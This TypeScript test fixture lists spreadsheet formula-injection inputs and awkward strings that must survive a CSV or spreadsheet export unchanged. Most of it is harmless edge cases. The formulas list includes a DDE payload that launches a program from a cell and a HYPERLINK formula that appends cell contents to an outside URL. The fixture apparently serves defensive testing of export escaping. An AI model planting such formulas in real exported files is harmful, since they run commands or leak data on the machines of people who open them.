/** What strangers type to make a spreadsheet do something, or to break out of a cell. */
export const formulas: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?"&A1,"Click")',
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "＝1+1",
  "+1-555-0100",
];

/** What only has to come back as it was. */
export const awkwardTexts: readonly string[] = [
  'She said "no", and left',
  '","',
  '"',
  "one; two; three",
  "one\ntwo\r\nthree\n",
  "ends with a backslash \\",
  "Zoë, 失业, 🤖👩🏽‍🏭, العمل",
  "'quoted'",
  "a = b + c @ d",
  "letters ".repeat(1250),
  " spaces around ",
  "-12",
  "+3.5",
  "1,5",
  "2026-11-20",
  "12:30",
  "1e5",
  "007",
  "TRUE",
];
